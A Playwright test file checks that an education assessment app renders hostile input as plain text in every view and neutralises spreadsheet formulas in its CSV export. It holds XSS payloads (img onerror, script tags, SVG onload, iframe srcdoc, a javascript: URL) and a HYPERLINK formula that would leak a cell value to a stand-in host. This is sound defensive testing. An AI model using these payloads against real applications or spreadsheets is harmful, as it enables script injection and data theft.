/**
 * Hostile text: notes, a district name, a role, a snapshot label and a dissent note holding HTML and script
 * payloads are shown as the words they are in every view (questionnaire, results, score sheet, a share
 * link opened elsewhere, the workshop board and its projector) and never run; the CSV download neutralises
 * a spreadsheet formula. Each payload would set window.__pwned if it ran.
 *
 * The Content-Security-Policy would block most of these payloads even if they reached the page as HTML, so
 * these tests turn it off (bypassCSP): what they prove is that the text never becomes markup at all.
 */
import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { assessmentKey, open, seedStorage } from './helpers';

test.use({ bypassCSP: true });

const RUBRIC = 'coaching-conditions';
const IMG = '<img src=x onerror="window.__pwned=1">';
const SCRIPT = '"><script>window.__pwned=1</script>';
const SVG = '<svg onload=\'window.__pwned=1\'></svg><iframe srcdoc="<script>parent.__pwned=1</script>">';
const JS_URL = 'javascript:window.__pwned=1//';
const FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Open the report")';
const DISTRICT = `${IMG} Lakeview`;
const ROLE = `${SCRIPT} Superintendent`;
const LABEL = `${SVG} Fall baseline`;

const NOTES: Record<string, string> = {
  'peer-meetings': IMG,
  'peer-dialogue': SCRIPT,
  'peer-critical-friends': JS_URL,
  'peer-system-network': FORMULA,
  'learning-ongoing': SVG,
};

const ITEMS = [
  ['peer-meetings', 'peer-dialogue', 'peer-critical-friends', 'peer-system-network'],
  ['learning-ongoing', 'learning-equity', 'learning-tailored', 'learning-integrated', 'learning-new-coaches'],
  ['leader-role-clarity', 'leader-networks', 'leader-staff-communication', 'leader-open-culture'],
  [
    'system-role-clarity',
    'system-coordination',
    'system-advocacy',
    'system-survives-change',
    'system-scale-with-supports',
  ],
].flat();

const assessment = {
  rubric: RUBRIC,
  ratings: Object.fromEntries(ITEMS.map((id, i) => [id, i % 5])),
  counts: {},
  notes: NOTES,
  district: DISTRICT,
  role: ROLE,
  updatedAt: '2026-11-23T14:02:00.000Z',
};

/** Nothing ran and nothing became markup: no flag, no element or attribute that a payload would make. */
async function expectInert(page: Page, where: string): Promise<void> {
  // Give an injected image's error or an SVG's load event the time to fire, had either been made.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50))));
  const found = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: unknown }).__pwned,
    injected: [
      ...document.querySelectorAll(
        'img[src="x"], [onerror], [onload], svg[onload], iframe, a[href^="javascript:" i], [src^="javascript:" i]',
      ),
    ].map((element) => element.outerHTML.slice(0, 80)),
    scripts: [...document.scripts].filter((s) => s.textContent?.includes('__pwned')).length,
  }));
  expect(found, `on ${where}`).toEqual({ pwned: undefined, injected: [], scripts: 0 });
}

/** Fields of a CSV text (RFC 4180: quoted fields may hold commas, quotes and line breaks). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = text.startsWith('\uFEFF') ? 1 : 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted && char === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (char === '"') quoted = !quoted;
    else if (quoted) field += char;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else field += char;
  }
  return rows;
}

test('notes, district, role and labels with script payloads are shown as text in every view and never run', async ({
  page,
  browser,
}) => {
  test.setTimeout(120_000);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await seedStorage(page, {
    [assessmentKey(RUBRIC)]: JSON.stringify({ version: 1, assessment }),
    [`dcsa:snapshots:${RUBRIC}`]: JSON.stringify({
      version: 1,
      snapshots: [{ id: 'hostile1', label: LABEL, savedAt: '2026-11-20T10:00:00.000Z', assessment }],
    }),
  });

  // The questionnaire: each note is the value of its field, exactly as typed.
  await open(page, `/assess/${RUBRIC}/`);
  for (const [id, note] of Object.entries(NOTES).slice(0, 4))
    await expect(page.locator(`#note-${id}`)).toHaveValue(note);
  await page.goto(`/assess/${RUBRIC}/#step-2`);
  await expect(page.locator('#note-learning-ongoing')).toHaveValue(SVG);
  await page.goto(`/assess/${RUBRIC}/#review`);
  await expect(page.locator('#step-heading')).toHaveText('Review');
  await expectInert(page, 'the questionnaire');

  // Typing a payload keeps it as text too.
  await page.goto(`/assess/${RUBRIC}/#step-3`);
  await page.locator('#note-leader-role-clarity').fill(SCRIPT);
  await expect(page.locator('#note-leader-role-clarity')).toHaveValue(SCRIPT);
  await expectInert(page, 'the questionnaire after typing');

  // The results: the snapshot's label is shown as text, in the history and in the comparison.
  await open(page, `/results/${RUBRIC}/`);
  await expect(page.locator('.snapshots')).toContainText(LABEL);
  await page.getByLabel('Earlier').selectOption({ label: LABEL });
  await expect(page.locator('.growth-grid')).toContainText(`In ${LABEL}`);
  await expectInert(page, 'the results');

  // The CSV: payloads are plain cells, and the formula starts with an apostrophe so it is never evaluated.
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download CSV (spreadsheet)' }).click(),
  ]);
  const rows = csvRows(await readFile(await download.path(), 'utf8'));
  const noteOf = (text: string) => rows.find((row) => row[4] === text || row[4] === `'${text}`)?.[4];
  expect(noteOf(FORMULA)).toBe(`'${FORMULA}`);
  expect(noteOf(IMG)).toBe(IMG);
  expect(noteOf(SCRIPT)).toBe(SCRIPT);
  expect(noteOf(JS_URL)).toBe(JS_URL);
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

  // The score sheet: district and role in their fields, notes in the notes table, as text.
  await open(page, `/print/${RUBRIC}/`);
  await expect(page.locator('#sheet-district')).toHaveValue(DISTRICT);
  await expect(page.locator('#sheet-role')).toHaveValue(ROLE);
  const notes = page.getByTestId('sheet-notes');
  for (const note of Object.values(NOTES)) await expect(notes).toContainText(note);
  await expectInert(page, 'the score sheet');

  // A share link with notes, district and role, opened in a browser that has nothing saved.
  await open(page, `/results/${RUBRIC}/`);
  await page.getByLabel('Include notes').check();
  await page.getByLabel('Include district and role').check();
  await page.getByRole('button', { name: 'Create share link' }).click();
  const link = await page.getByLabel(/Share link/).inputValue();
  const other = await browser.newContext({ bypassCSP: true });
  const colleague = await other.newPage();
  await colleague.goto(link);
  await expect(colleague.getByText('You are looking at results shared by a link.')).toBeVisible();
  await expectInert(colleague, 'the results opened from a share link');
  await colleague.getByRole('button', { name: 'Save to my assessments' }).click();
  await open(colleague, `/print/${RUBRIC}/`);
  await expect(colleague.locator('#sheet-district')).toHaveValue(DISTRICT);
  await expect(colleague.getByTestId('sheet-notes')).toContainText(IMG);
  await expectInert(colleague, 'the score sheet of the saved link');
  await other.close();

  // The workshop board: the participant's typed role and district, and a dissent note, as text.
  await open(page, `/team/${RUBRIC}/`);
  await page.getByRole('button', { name: 'Start the workshop' }).click();
  await page.getByLabel('Response links or codes').fill(`${link}\n${SCRIPT}`);
  await page.getByRole('button', { name: 'Add responses' }).click();
  await expect(page.getByTestId('gather-status')).toHaveText('Added response 1.');
  await expect(page.locator('.response-list')).toContainText(ROLE);
  await expect(page.locator('.response-list')).toContainText(DISTRICT);
  await page.getByTestId('reveal').click();
  await page.locator('#dissent-peer-meetings').fill(IMG);
  await expect(page.locator('#dissent-peer-meetings')).toHaveValue(IMG);
  await expectInert(page, 'the workshop board');
  await page.getByRole('button', { name: 'Projector mode' }).click();
  await expect(page.locator('.projector')).toBeVisible();
  for (let screen = 0; screen < 6; screen++) await page.keyboard.press('ArrowRight');
  await expectInert(page, 'the projector');
  await page.keyboard.press('Escape');

  // The district summary and the home page list the rubric and its progress.
  await open(page, '/results/');
  await expectInert(page, 'the district summary');
  await open(page, '/');
  await expectInert(page, 'the home page');
  expect(dialogs).toEqual([]);
});
